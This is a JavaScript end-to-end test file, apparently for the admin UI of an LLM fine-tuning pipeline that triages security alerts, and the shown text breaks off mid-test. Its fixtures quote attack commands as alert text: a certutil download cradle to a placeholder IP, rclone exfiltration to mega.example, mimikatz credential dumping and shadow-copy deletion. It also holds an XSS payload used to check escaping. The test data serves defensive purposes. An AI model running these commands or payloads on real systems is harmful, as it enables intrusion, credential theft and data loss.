// The admin UI end to end: the real binary and simulator, traffic sent
// through the proxy, headless Chromium clicking and typing like an
// analyst and an admin, and the admin API asked afterwards what really
// changed. Screenshots of every page go to test-artifacts/screenshots/.

import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { startStack, adminApi, chat } from './harness.mjs';
import { openPage, watch, shot, strays } from './browser.mjs';

const ALERTS = [
  'Endpoint alert: LSASS memory read by rundll32.exe comsvcs.dll MiniDump on host FIN-WS-014',
  'Defender alert: powershell -enc downloading payload from 185.220.101.4, then scheduled task created',
  'Email gateway: user clicked link to micros0ft-login.example in message "Password expiry"',
  'Alert: vssadmin delete shadows /all /quiet followed by mass file renames to .locked',
  'Alert: PsExec service installed on 12 hosts from admin workstation within 3 minutes',
  'Alert: outbound DNS TXT queries at high rate to random subdomains of cdn-sync.example',
  'Alert: new local admin account "svc_backup2" created on DC-02 outside change window',
  'Alert: nightly backup job ran robocopy to the NAS as scheduled, signed binary',
];
// More of the everyday queue, so a dataset has enough examples to train on.
// Analysts label these from their chat app (feedback), so they reach the
// queue labelled and an evaluation has something to score against.
const LABELLED = [
  ['mimikatz sekurlsa::logonpasswords run on', 'credential dumping', 'credential_access', 'critical'],
  ['certutil -urlcache -split -f http://198.51.100.7/a.exe on', 'download cradle', 'execution', 'high'],
  ['WMI remote process creation wmic /node from', 'lateral movement', 'lateral_movement', 'high'],
  ['rclone copy of the finance share to mega.example from', 'exfiltration', 'exfiltration', 'critical'],
  ['new Run key HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run updater.exe on', 'persistence', 'persistence', 'medium'],
  ['Windows Defender real-time protection disabled by Set-MpPreference on', 'defense evasion', 'defense_evasion', 'high'],
  ['net group "domain admins" /domain and nltest /dclist run on', 'discovery', 'discovery', 'medium'],
  ['encrypted files with ransom note README_RESTORE.txt appearing on', 'ransomware', 'ransomware', 'critical'],
  ['beacon every 60 s with jitter to 203.0.113.50:443 from', 'command and control', 'command_and_control', 'high'],
  ['user reported a phishing mail with a QR code to a fake login page on', 'phishing', 'phishing', 'medium'],
].map(([what, why, threat, severity], i) => ({ text: `Alert (${why}): ${what} host SRV-${String(i + 20).padStart(3, '0')}, first seen today`, threat, severity }));
const MORE = LABELLED.map((l) => l.text);
const XSS = 'Suspicious mail body: <img src=x onerror=window.__xss=1> and <script>window.__xss=1</script> end';

const TOTAL = ALERTS.length + MORE.length + 3;
let dataset, job;
/** The traffic of the versions with some (a fine-tuned one may sit at 0). */
const weights = (alias) => Object.fromEntries(alias.versions.filter((v) => v.weight > 0).map((v) => [v.name, v.weight]));
let stack, api, analystApi, browser, page, problems;

describe('admin UI', { timeout: 240000 }, () => {
  before(async () => {
    stack = await startStack({ client: 'client', analyst: 'analyst' });
    api = adminApi(stack.url, stack.admin);
    analystApi = adminApi(stack.url, stack.keys.analyst);
    // Newest first in the queue: the XSS one last, the LSASS alert on top.
    await chat(stack.url, stack.keys.client, XSS, { user: 'mallory' });
    // A copy of an alert already sent and a message too short to teach
    // anything: the dataset report must name both reasons.
    await chat(stack.url, stack.keys.client, ALERTS[7], { user: 'analyst-9' });
    await chat(stack.url, stack.keys.client, 'ok thanks', { user: 'analyst-9' });
    for (const [i, l] of LABELLED.entries()) {
      const sent = await chat(stack.url, stack.keys.client, l.text, { user: `analyst-${i % 3}` });
      const fb = await fetch(`${stack.url}/v1/feedback`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${stack.keys.analyst}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ inference_id: sent.inference, threat_type: l.threat, severity: l.severity }),
      });
      assert.equal(fb.status, 201, await fb.text());
    }
    for (const [i, text] of [...ALERTS.entries()].reverse()) await chat(stack.url, stack.keys.client, text, { user: `analyst-${i % 3}` });
    // Capture is off the hot path: wait until every conversation is stored
    // (a minute at most, for a loaded machine), and say so if one is not:
    // the pages below count on all of them.
    const deadline = Date.now() + 60000;
    for (let listed = 0; listed !== TOTAL;) {
      if (Date.now() > deadline) throw new Error(`${listed} of ${TOTAL} conversations stored after 60 s`);
      await new Promise((r) => setTimeout(r, 100));
      listed = (await api('/conversations?limit=50')).body.data.length;
    }
    ({ browser, page, problems } = await openPage());
  });

  after(async () => {
    await browser?.close();
    await stack?.stop();
  });

  test('the page keeps its strict CSP and signs in with an admin key', async () => {
    const res = await page.goto(`${stack.url}/admin/`);
    assert.match(res.headers()['content-security-policy'], /script-src 'self'/);
    await page.locator('#signin-key').waitFor();
    await shot(page, '01-sign-in');
    await page.fill('#signin-key', 'fw-not-a-real-key');
    await page.click('#signin-form button');
    await page.getByText('That key is not valid').waitFor();
    await page.fill('#signin-key', stack.admin);
    await page.click('#signin-form button');
    await page.locator('#who-role', { hasText: 'admin' }).waitFor();
    assert.equal(await page.evaluate(() => sessionStorage.getItem('flywheel.key')), stack.admin);
    assert.deepEqual(await page.locator('#nav a').allTextContents(),
      ['Overview', 'Review', 'Datasets', 'Fine-tuning', 'Models', 'Performance', 'Keys', 'Audit log']);
  });

  test('overview shows the funnel, no evaluation yet, and traffic by version', async () => {
    await page.goto(`${stack.url}/admin/#/overview`);
    const total = page.locator('.tile-total .tile-value');
    await total.waitFor();
    assert.equal(await total.textContent(), String(TOTAL));
    await page.getByText('No evaluation yet.').waitFor();
    await page.locator('.traffic', { hasText: 'triage' }).getByText('100 %').waitFor();
    await page.getByText('No open alerts.').waitFor();
    // Providers: whether each can sign its requests.
    await page.locator('tr[data-provider=sim]', { hasText: 'unsigned' }).waitFor();
    await page.locator('tr[data-provider=trainer]', { hasText: 'serves no chats' }).waitFor();
    const azure = page.locator('tr[data-provider=azure] [data-test=signing-problem]');
    await azure.waitFor();
    assert.match(await azure.textContent(), /cannot sign.*AZURE_OPENAI_API_KEY/s);
    await shot(page, '02-overview');
  });

  test('a captured XSS payload is shown as text and never runs', async () => {
    await page.goto(`${stack.url}/admin/#/review`);
    await page.locator('.queue-item').first().waitFor();
    await page.keyboard.press('/');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'review-search');
    await page.keyboard.type('onerror');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 1);
    const text = page.locator('.msg-user .msg-text', { hasText: '<img src=x onerror=window.__xss=1>' });
    await text.waitFor();
    assert.match(await text.textContent(), /<script>window\.__xss=1<\/script>/);
    assert.equal(await page.locator('.conversation img, .conversation script, .queue img').count(), 0);
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    await shot(page, '03-review-xss-as-text');
  });

  test('an analyst triages with the keyboard: label, score, approve, reject, bulk', async () => {
    await page.goto(`${stack.url}/admin/#/review?status=pending`);
    await page.locator('.queue-item.selected').waitFor();
    await page.locator('.conversation').waitFor();
    const firstId = await page.locator('.queue-item.selected').getAttribute('data-id');
    await page.selectOption('.label-form select[name=threat_type]', 'credential_access');
    await page.selectOption('.label-form select[name=severity]', 'high');
    await page.fill('.label-form textarea[name=notes]', 'LSASS dump via comsvcs: classic credential theft.');
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('4');
    await page.locator('.score.on', { hasText: '4' }).waitFor();
    await shot(page, '04-review-labelling');
    await page.keyboard.press('a');
    await page.waitForFunction((id) => document.querySelector('.queue-item.selected')?.dataset.id !== id, firstId);
    const first = (await api(`/conversations/${firstId}`)).body;
    assert.equal(first.status, 'approved');
    assert.equal(first.threat_type, 'credential_access');
    assert.equal(first.severity, 'high');
    assert.equal(first.quality_score, 4);
    assert.equal(first.notes, 'LSASS dump via comsvcs: classic credential theft.');
    assert.equal(await page.locator(`.queue-item[data-id="${firstId}"] .badge`, { hasText: 'approved' }).count(), 1);

    // Next one: label by the form, score 5 and approve with the keyboard.
    const secondId = await page.locator('.queue-item.selected').getAttribute('data-id');
    await page.locator('.conversation').waitFor();
    await page.selectOption('.label-form select[name=threat_type]', 'malware');
    await page.selectOption('.label-form select[name=severity]', 'critical');
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('5');
    await page.locator('.score.on', { hasText: '5' }).waitFor();
    await page.keyboard.press('a');
    await page.waitForFunction((id) => document.querySelector('.queue-item.selected')?.dataset.id !== id, secondId);

    // k goes back, j forward; r rejects.
    await page.keyboard.press('k');
    await page.waitForFunction((id) => document.querySelector('.queue-item.selected')?.dataset.id === id, secondId);
    await page.keyboard.press('j');
    const thirdId = await page.locator('.queue-item.selected').getAttribute('data-id');
    assert.notEqual(thirdId, secondId);
    await page.locator(`.conversation[data-id="${thirdId}"]`).waitFor();
    await page.keyboard.press('r');
    await page.waitForFunction((id) => document.querySelector('.queue-item.selected')?.dataset.id !== id, thirdId);
    assert.equal((await api(`/conversations/${thirdId}`)).body.status, 'rejected');
    const second = (await api(`/conversations/${secondId}`)).body;
    assert.deepEqual([second.status, second.threat_type, second.severity, second.quality_score], ['approved', 'malware', 'critical', 5]);

    // Bulk: x selects the current one and the next, then approve both.
    const picked = [];
    for (let i = 0; i < 2; i++) {
      await page.locator('.conversation').waitFor();
      picked.push(await page.locator('.queue-item.selected').getAttribute('data-id'));
      await page.keyboard.press('x');
      await page.keyboard.press('j');
    }
    await page.getByText('2 selected').waitFor();
    await page.click('[data-test=bulk-approve]');
    await page.getByText('2 conversations approved').waitFor();
    for (const id of picked) assert.equal((await api(`/conversations/${id}`)).body.status, 'approved');

    await page.keyboard.press('?');
    await page.locator('#help[open]').waitFor();
    await shot(page, '05-keyboard-help', { fullPage: false });
    await page.keyboard.press('Escape');

    const stats = (await api('/stats')).body;
    assert.equal(stats.approved, 4);
    assert.equal(stats.rejected, 1);
    assert.equal(stats.high_quality, 2);
  });

  test('filters narrow the queue and a conversation opens on its own page', async () => {
    await page.goto(`${stack.url}/admin/#/review?status=approved&min_quality=4`);
    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 2);
    await page.goto(`${stack.url}/admin/#/review?status=any&threat_type=malware`);
    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 1);
    const id = await page.locator('.queue-item').first().getAttribute('data-id');
    await page.goto(`${stack.url}/admin/#/review?status=any&signal=duplicate:true`);
    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 1);
    await page.locator('.conversation .signals', { hasText: 'duplicate' }).waitFor();
    // Cursor paging: pages of 5, "Load more", and j past the end loads the next page.
    await page.goto(`${stack.url}/admin/#/review?status=any&limit=5`);
    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 5);
    await page.click('[data-test=load-more]');
    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 10);
    await page.locator('.queue-item').nth(9).click();
    await page.locator('.queue-item.selected[data-index="9"]').waitFor();
    await page.locator('.conversation').waitFor();
    await page.keyboard.press('j');
    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 15);
    await page.locator('.queue-item.selected[data-index="10"]').waitFor();
    const seen = await page.locator('.queue-item').evaluateAll((els) => els.map((e) => e.dataset.id));
    assert.equal(new Set(seen).size, 15, 'no conversation twice across pages');
    await page.goto(`${stack.url}/admin/#/conversations/${id}`);
    await page.locator('.turn .msg-answer').waitFor();
    await page.locator('.turn-meta', { hasText: 'base' }).waitFor();
    await shot(page, '06-conversation');
  });


  test('datasets: approve the rest in bulk, build a snapshot, read its report, download the JSONL', async () => {
    await page.goto(`${stack.url}/admin/#/review?status=pending`);
    await page.locator('.queue-item').first().waitFor();
    await page.check('.bulk input[type=checkbox]');
    await page.click('[data-test=bulk-approve]');
    await page.getByText(/conversations approved/).waitFor();
    assert.equal((await api('/stats')).body.approved, TOTAL - 1);

    await page.goto(`${stack.url}/admin/#/datasets`);
    await page.fill('input[name=name]', 'triage-from-the-ui');
    await page.selectOption('select[name=min_quality]', '');
    await page.click('[data-test=build]');
    await page.waitForURL(/#\/datasets\/ds_/);
    const id = decodeURIComponent(page.url().split('#/datasets/')[1]);
    dataset = (await api(`/datasets/${id}`)).body;
    assert.equal(dataset.name, 'triage-from-the-ui');
    assert.equal(dataset.counts.candidates, TOTAL - 1);
    assert.ok(dataset.ready_for_training, `ready: ${JSON.stringify(dataset.problems)}`);
    await page.locator('.badge', { hasText: 'ready for training' }).waitFor();
    await page.locator('.tile', { hasText: 'train' }).first().waitFor();
    assert.equal(await page.locator('.tile', { hasText: /^train/ }).locator('.tile-value').textContent(), String(dataset.counts.train));
    assert.ok(dataset.rejections.length >= 2, JSON.stringify(dataset.rejections));
    assert.ok(dataset.rejections.some((r) => /duplicate/.test(r.reason)), 'the copy is named');
    for (const r of dataset.rejections) await page.locator('td', { hasText: r.reason }).first().waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-test=download-train]')]);
    const { readFile } = await import('node:fs/promises');
    const lines = (await readFile(await download.path(), 'utf8')).trim().split('\n');
    assert.equal(lines.length, dataset.counts.train);
    assert.ok(Array.isArray(JSON.parse(lines[0]).messages));
    await shot(page, '12-dataset-report');
  });

  test('fine-tuning: start a job from the dataset and watch it succeed', async () => {
    assert.ok(dataset, 'the dataset test built one');
    await page.goto(`${stack.url}/admin/#/jobs?dataset=${dataset.id}`);
    await page.fill('input[name=suffix]', 'ui');
    await page.fill('input[name=n_epochs]', '2');
    await page.click('[data-test=start-job]');
    await page.waitForURL(/#\/jobs\/job_/);
    await page.locator('[data-test=job-status]', { hasText: 'succeeded' }).waitFor({ timeout: 60000 });
    const id = decodeURIComponent(page.url().split('#/jobs/')[1]);
    job = (await api(`/fine-tuning/jobs/${id}`)).body;
    assert.equal(job.status, 'succeeded');
    assert.equal(job.dataset_id, dataset.id);
    assert.equal(job.hyperparameters.n_epochs, 2);
    assert.ok(job.registered_version, 'the model is registered as a version');
    await page.locator('[data-test=registered-version]', { hasText: job.registered_version }).waitFor();
    await page.locator('.event').first().waitFor();
    await shot(page, '13-fine-tuning-job');
  });

  test('fine-tuning: a second job is cancelled while it runs', async () => {
    assert.ok(dataset, 'the dataset test built one');
    await page.goto(`${stack.url}/admin/#/jobs?dataset=${dataset.id}`);
    await page.fill('input[name=suffix]', 'cancelled');
    await page.click('[data-test=start-job]');
    await page.waitForURL(/#\/jobs\/job_/);
    const id = decodeURIComponent(page.url().split('#/jobs/')[1]);
    await page.click('[data-test=cancel-job]');
    await page.locator('[data-test=job-status]', { hasText: 'cancelled' }).waitFor();
    const cancelled = (await api(`/fine-tuning/jobs/${id}`)).body;
    assert.equal(cancelled.status, 'cancelled');
    assert.equal(cancelled.registered_version, null);
    assert.equal(await page.locator('[data-test=cancel-job]').count(), 0, 'no cancel button on a finished job');
    await page.goto(`${stack.url}/admin/#/jobs`);
    await page.locator('td', { hasText: job.id }).waitFor();
    await page.locator('td', { hasText: id }).waitFor();
    await shot(page, '13-fine-tuning');
  });

  test('evaluation: run one on the dataset, read the confusion matrices, compare two versions, chart the metrics', async () => {
    assert.ok(job, 'the fine-tuning test made a version');
    const ft = job.registered_version;
    await page.goto(`${stack.url}/admin/#/performance?alias=triage`);
    await page.locator('.card', { hasText: 'Run an evaluation' }).locator('select[name=dataset_id]').waitFor();
    await page.selectOption('select[name=dataset_id]', dataset.id);
    await page.selectOption('select[name=split]', 'all');
    await page.click('.card:has-text("Run an evaluation") button[type=submit]');
    await page.waitForURL(/#\/evaluations\/eval_/);
    await page.locator('.page-head .badge', { hasText: 'succeeded' }).waitFor({ timeout: 60000 });
    const id = decodeURIComponent(page.url().split('#/evaluations/')[1]);
    const ev = (await api(`/evaluations/${id}`)).body;
    assert.equal(ev.status, 'succeeded');
    assert.deepEqual(Object.keys(ev.results).sort(), ['base', ft].sort());
    for (const v of ['base', ft]) {
      await page.locator('.card', { hasText: `Confusion matrix · ${v}` }).locator('table.confusion').waitFor();
      const shown = await page.locator('.card', { hasText: 'Results on' }).locator('tr', { hasText: /^accuracy/ }).textContent();
      assert.ok(shown.includes(`${(ev.results[v].accuracy * 100).toFixed(1)}`), `accuracy of ${v} shown: ${shown}`);
    }
    const diag = ev.results.base.confusion.matrix.reduce((n, row, i) => n + (row[i] ?? 0), 0);
    const cells = await page.locator('.card', { hasText: 'Confusion matrix · base' }).locator('td.diag').allTextContents();
    assert.equal(cells.reduce((n, x) => n + Number(x), 0), diag);
    await page.locator('.card', { hasText: 'Side by side' }).locator('select[name=b]').selectOption(ft);
    await page.locator('.card', { hasText: 'Side by side' }).locator('th', { hasText: `${ft} F1` }).waitFor();
    await shot(page, '14-evaluation');

    await page.goto(`${stack.url}/admin/#/performance?alias=triage`);
    await page.locator('figure.chart-figure svg circle').first().waitFor();
    const perf = (await api('/performance?alias=triage')).body.data;
    assert.ok(perf.length >= 2);
    assert.ok(await page.locator('figure.chart-figure').count() >= 1);
    await shot(page, '14-performance-charts');
    await page.goto(`${stack.url}/admin/#/overview`);
    await page.locator('.card', { hasText: 'Success metrics' }).locator('td', { hasText: 'accuracy' }).first().waitFor();
    assert.equal(await page.getByText('No evaluation yet.').count(), 0);
    await shot(page, '02-overview-with-evaluation');
    // Runs under their targets raise alerts; acknowledging one takes it off the list.
    const open = (await api('/alerts?state=open')).body.data;
    if (open.length) {
      await page.locator('.alert-item').first().getByRole('button', { name: 'Acknowledge' }).click();
      await page.getByText('Alert acknowledged.').waitFor();
      assert.equal((await api('/alerts?state=open')).body.data.length, open.length - 1);
    }
  });

  test('models: register, traffic with If-Match and a 409 in words, promote, roll back, history', async () => {
    await page.goto(`${stack.url}/admin/#/models/triage`);
    await page.locator('.traffic-editor').waitFor();
    await page.fill('form.form-row input[name=name]', 'cand1');
    await page.fill('form.form-row input[name=model]', 'gpt-4o-mini-2024-07-18');
    await page.click('form.form-row button[type=submit]');
    await page.locator('tr[data-version=cand1]').waitFor();

    await page.fill('input[data-version=base]', '90');
    await page.fill('input[data-version=cand1]', '10');
    await page.fill('input[name=reason]', 'canary 10 % on cand1');
    await page.click('[data-test=save-traffic]');
    await page.getByText('Traffic saved.').waitFor();
    let alias = (await api('/models/triage')).body;
    assert.deepEqual(weights(alias), { base: 90, cand1: 10 });

    // Someone else changes the alias while this page is open: a 409, in words.
    await page.locator('tr[data-version=cand1]').waitFor();
    const moved = await api('/models/triage/traffic', { method: 'PUT', body: { weights: { base: 80, cand1: 20 }, reason: 'another admin' } });
    assert.equal(moved.status, 200);
    await page.fill('input[data-version=base]', '50');
    await page.fill('input[data-version=cand1]', '50');
    await page.fill('input[name=reason]', 'half and half');
    await page.click('[data-test=save-traffic]');
    await page.locator('.inline-error', { hasText: 'Someone changed this alias after you opened it' }).waitFor();
    await shot(page, '07-models-conflict');
    alias = (await api('/models/triage')).body;
    assert.deepEqual(weights(alias), { base: 80, cand1: 20 });

    // cand1 was never evaluated: gating refuses it, and says so beside
    // the button; forcing it is a second, deliberate step with a reason.
    await page.reload();
    await page.locator('[data-test=verdict-cand1] [data-allowed=false]').waitFor();
    assert.match(await page.locator('[data-test=verdict-cand1]').textContent(), /no evaluation/);
    assert.ok(await page.locator('[data-test=force-cand1]').isHidden(), 'no override before a refusal');
    await page.click('[data-test=promote-cand1]');
    await page.locator('.inline-error', { hasText: 'Promotion refused by evaluation gating' }).waitFor();
    assert.equal((await api('/models/triage')).body.production, 'base', 'nothing promoted yet');
    await page.click('[data-test=force-cand1]');
    await page.locator('#ask[open]').waitFor();
    assert.match(await page.locator('#ask-text').textContent(), /audit log records it as a forced promotion/);
    await page.click('#ask-ok');
    assert.ok(await page.locator('#ask[open]').isVisible(), 'a reason is required');
    await page.fill('#ask-reason', 'cand1 better on the canary');
    await page.click('#ask-ok');
    await page.getByText('cand1 is production (forced past gating).').waitFor();
    alias = (await api('/models/triage')).body;
    assert.equal(alias.production, 'cand1');
    const forcedEntry = (await api('/audit?limit=5')).body.data.find((e) => e.action.startsWith('model.promote'));
    assert.equal(forcedEntry.action, 'model.promote.forced');
    assert.equal(forcedEntry.details.reason, 'cand1 better on the canary');

    await page.locator('.page-head', { hasText: 'cand1' }).waitFor();
    await page.click('[data-test=rollback]');
    await page.fill('#ask-reason', 'analysts report worse severities');
    await page.click('#ask-ok');
    await page.getByText('Rolled back: base is production.').waitFor();
    alias = (await api('/models/triage')).body;
    assert.equal(alias.production, 'base');
    const history = (await api('/models/triage/history')).body.data;
    assert.deepEqual(history.slice(0, 4).map((h) => h.action), ['rollback', 'promote', 'traffic', 'traffic']);
    assert.equal(history[1].forced, true);
    assert.equal(history[0].reason, 'analysts report worse severities');
    await page.locator('.card', { hasText: 'History' }).getByText('promote (forced)').waitFor();
    await page.locator('.card', { hasText: 'History' }).getByText('analysts report worse severities').waitFor();
    await page.locator('.card', { hasText: 'Online experiment' }).locator('td', { hasText: /^base/ }).first().waitFor();
    await shot(page, '08-model-alias');
    await page.goto(`${stack.url}/admin/#/models`);
    await page.locator('.card-title a', { hasText: 'triage' }).waitFor();
    await shot(page, '09-models');
  });


  test('the fine-tuned version, no better than base here, is promoted past the gate, then rolled back', async () => {
    assert.ok(job, 'the fine-tuning test made a version');
    const version = job.registered_version;
    await page.goto(`${stack.url}/admin/#/models/triage`);
    await page.locator(`tr[data-version="${version}"]`).waitFor();
    // Base answered every labelled example it is scored on as its labels
    // say (answers the labels contradict were not trained on), so the
    // fine-tune cannot beat it: the verdict beside the button says so, with
    // the figures and McNemar's p of the run that scored both.
    const verdict = page.locator(`[data-test="verdict-${version}"]`);
    await verdict.locator('[data-allowed=false]').waitFor();
    assert.match(await verdict.textContent(), /does not beat base.*accuracy .* vs .*McNemar p = /);
    await page.click(`[data-test="promote-${version}"]`);
    await page.click(`[data-test="force-${version}"]`);
    await page.fill('#ask-reason', 'fine-tuned on the reviewed queue');
    await page.click('#ask-ok');
    await page.getByText(`${version} is production (forced past gating).`).waitFor();
    assert.equal((await api('/models/triage')).body.production, version);
    const answered = await chat(stack.url, stack.keys.client, 'Alert: mimikatz sekurlsa::logonpasswords run on host SRV-099', { user: 'after-promotion' });
    assert.equal(answered.variant, version, 'the promoted version serves at once');
    await page.locator('.page-head', { hasText: version }).waitFor();
    await shot(page, '09-model-promoted');
    await page.click('[data-test=rollback]');
    await page.fill('#ask-reason', 'back to base while the canary is read');
    await page.click('#ask-ok');
    await page.getByText('Rolled back: ').waitFor();
    const alias = (await api('/models/triage')).body;
    assert.equal(alias.production, 'base');
    assert.equal(alias.versions.find((v) => v.name === version).state, 'retired');
  });

  test('keys and the audit log (admin)', async () => {
    await page.goto(`${stack.url}/admin/#/keys`);
    await page.fill('form.form-row input[name=name]', 'night shift');
    await page.selectOption('form.form-row select[name=role]', 'analyst');
    await page.click('form.form-row button[type=submit]');
    const key = await page.locator('[data-test=new-key]').textContent();
    assert.match(key, /^fw-/);
    const me = await adminApi(stack.url, key)('/me');
    assert.equal(me.body.role, 'analyst');
    await page.locator('td', { hasText: 'night shift' }).waitFor();
    await shot(page, '10-keys');
    page.once('dialog', (d) => d.accept());
    await page.locator('tr', { hasText: 'night shift' }).getByRole('button', { name: 'Revoke' }).click();
    await page.locator('tr', { hasText: 'night shift' }).getByText(/^revoked/).waitFor();
    assert.equal((await adminApi(stack.url, key)('/me')).status, 401, 'a revoked key is refused');
    await page.goto(`${stack.url}/admin/#/audit`);
    await page.locator('td .badge', { hasText: 'model.rollback' }).first().waitFor();
    await shot(page, '11-audit');
  });

  test('the datasets, fine-tuning and performance lists', async () => {
    for (const [hash, name] of [['#/datasets', '12-datasets'], ['#/jobs', '13-fine-tuning-list'], ['#/performance', '14-performance']]) {
      await page.goto(`${stack.url}/admin/${hash}`);
      await page.locator('.card').first().waitFor();
      await page.waitForFunction(() => !document.querySelector('.state-loading'));
      await shot(page, name);
    }
  });

  test('a narrow screen stacks the queue above the conversation', async () => {
    const narrow = await browser.context.newPage();
    const narrowProblems = watch(narrow);
    await narrow.setViewportSize({ width: 390, height: 844 });
    await narrow.goto(`${stack.url}/admin/`);
    await narrow.fill('#signin-key', stack.admin);
    await narrow.click('#signin-form button');
    await narrow.locator('.tile-total').waitFor();
    await shot(narrow, '15-narrow-overview');
    await narrow.goto(`${stack.url}/admin/#/review?status=any`);
    await narrow.locator('.conversation').waitFor();
    await shot(narrow, '16-narrow-review');
    const list = await narrow.locator('.list-pane').boundingBox();
    const detail = await narrow.locator('.detail').boundingBox();
    assert.ok(detail.y >= list.y + list.height - 1, 'the conversation is below the list');
    assert.ok(list.width <= 390 && detail.width <= 390, `list ${list.width}px, conversation ${detail.width}px wide`);
    const overflow = await narrow.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(overflow <= 0, `no sideways scrolling (${overflow}px too wide)`);
    await narrow.close();
    assert.deepEqual(narrowProblems, []);
  });

  test('an analyst sees no admin controls and the API refuses them when forced', async () => {
    const a = await browser.context.newPage();
    const aProblems = watch(a);
    await a.goto(`${stack.url}/admin/`);
    await a.fill('#signin-key', stack.keys.analyst);
    await a.click('#signin-form button');
    await a.locator('#who-role', { hasText: 'analyst' }).waitFor();
    assert.deepEqual(await a.locator('#nav a').allTextContents(), ['Overview', 'Review', 'Datasets', 'Fine-tuning', 'Models', 'Performance']);
    await a.goto(`${stack.url}/admin/#/models/triage`);
    await a.locator('.traffic-editor').waitFor();
    assert.ok(await a.locator('[data-test=save-traffic]').isDisabled());
    assert.ok(await a.locator('[data-test=rollback]').isDisabled());
    assert.ok(await a.locator('[data-test=promote-cand1]').isDisabled());
    assert.ok(await a.locator('input[data-version=base]').isDisabled());
    assert.equal(await a.getByText('Register a version').count(), 0);
    await shot(a, '17-analyst-models');
    await a.goto(`${stack.url}/admin/#/keys`);
    await a.getByText('This page needs an admin key.').waitFor();
    await a.goto(`${stack.url}/admin/#/datasets`);
    await a.getByText('Building datasets needs an admin key').waitFor();
    assert.equal(await a.locator('[data-test=build]').count(), 0);
    await a.goto(`${stack.url}/admin/#/jobs`);
    await a.getByText('Starting and cancelling jobs needs an admin key').waitFor();
    assert.equal(await a.locator('[data-test=start-job]').count(), 0);
    await a.goto(`${stack.url}/admin/#/jobs/${job.id}`);
    await a.locator('[data-test=job-status]').waitFor();
    await a.goto(`${stack.url}/admin/#/performance`);
    await a.locator('.card').first().waitFor();
    assert.equal(await a.getByText('Run an evaluation').count(), 0);
    // Reviewing is theirs to do.
    await a.goto(`${stack.url}/admin/#/review?status=any`);
    await a.locator('.conversation').waitFor();
    const id = await a.locator('.queue-item.selected').getAttribute('data-id');
    await a.locator('body').click({ position: { x: 5, y: 5 } });
    await a.keyboard.press('3');
    await a.locator('.score.on', { hasText: '3' }).waitFor();
    assert.equal((await api(`/conversations/${id}`)).body.quality_score, 3);
    await a.close();
    assert.deepEqual(aProblems, []);

    const forced = [
      ['/models/triage/traffic', { method: 'PUT', body: { weights: { base: 100 }, reason: 'forced' } }],
      ['/models/triage/promote', { method: 'POST', body: { version: 'cand1', reason: 'forced' } }],
      ['/models/triage/rollback', { method: 'POST', body: { reason: 'forced' } }],
      ['/models/triage/versions', { method: 'POST', body: { name: 'sneaky', provider: 'sim', model: 'x' } }],
      ['/keys', { method: 'POST', body: { name: 'sneaky', role: 'admin' } }],
      ['/keys', {}],
      [`/conversations/${id}`, { method: 'DELETE' }],
    ];
    // An analyst is refused these writes, not merely kept from the buttons.
    forced.push(['/datasets', { method: 'POST', body: { name: 'sneaky', format: 'sft' } }],
      ['/fine-tuning/jobs', { method: 'POST', body: { alias: 'triage', dataset_id: dataset.id } }],
      [`/fine-tuning/jobs/${job.id}/cancel`, { method: 'POST' }],
      ['/evaluations', { method: 'POST', body: { alias: 'triage', versions: ['base'], dataset_id: dataset.id } }]);
    for (const [path, options] of forced) {
      const r = await analystApi(path, options);
      assert.equal(r.status, 403, `${options.method || 'GET'} ${path} as analyst`);
      assert.equal(r.body.error.code, 'insufficient_permissions');
    }
    assert.equal((await api('/models/triage')).body.production, 'base');
  });

  test('fine-tuning on Azure: the deployment a job awaits is registered on its page', async () => {
    const created = await api('/fine-tuning/jobs', { method: 'POST', body: { alias: 'triage', dataset_id: dataset.id, provider: 'azure', suffix: 'azure' } });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const id = created.body.id;
    await page.goto(`${stack.url}/admin/#/jobs/${id}`);
    await page.locator('[data-test=job-status]', { hasText: 'succeeded' }).waitFor({ timeout: 60000 });
    await page.locator('[data-test=register-deployment]').waitFor();
    assert.equal((await api(`/fine-tuning/jobs/${id}`)).body.deployment.state, 'awaiting_deployment');
    await shot(page, '18-azure-awaiting-deployment');
    await page.fill('[data-test=deployment-name]', 'triage-azure-ui');
    await page.click('[data-test=register-deployment]');
    await page.locator('[data-test=deployment-state]', { hasText: 'succeeded' }).waitFor();
    const registered = (await api(`/fine-tuning/jobs/${id}`)).body;
    assert.equal(registered.deployment.name, 'triage-azure-ui');
    await page.locator('[data-test=registered-version]', { hasText: registered.registered_version }).waitFor();
    const alias = (await api('/models/triage')).body;
    assert.equal(alias.versions.find((v) => v.name === registered.registered_version).model, 'triage-azure-ui');
    // Without management access Flywheel cannot delete it, and says where to.
    await page.click('[data-test=delete-deployment]');
    await page.getByText('delete deployment triage-azure-ui in Azure instead').waitFor();
    assert.equal((await api(`/fine-tuning/jobs/${id}`)).body.deployment.state, 'succeeded');
  });

  test('a self-hosted trainer\'s adapter is shown on its job page and unloaded there', async () => {
    const created = await api('/fine-tuning/jobs', { method: 'POST', body: { alias: 'triage', dataset_id: dataset.id, provider: 'trainer', suffix: 'lora' } });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const id = created.body.id;
    await page.goto(`${stack.url}/admin/#/jobs/${id}`);
    await page.locator('[data-test=job-status]', { hasText: 'succeeded' }).waitFor({ timeout: 60000 });
    await page.locator('[data-test=adapter-loaded-on]', { hasText: 'sim' }).waitFor();
    const trained = (await api(`/fine-tuning/jobs/${id}`)).body;
    assert.deepEqual(trained.trainer.loaded_on, ['sim']);
    await shot(page, '19-trainer-adapter');
    // Registered without traffic, so it may go at once.
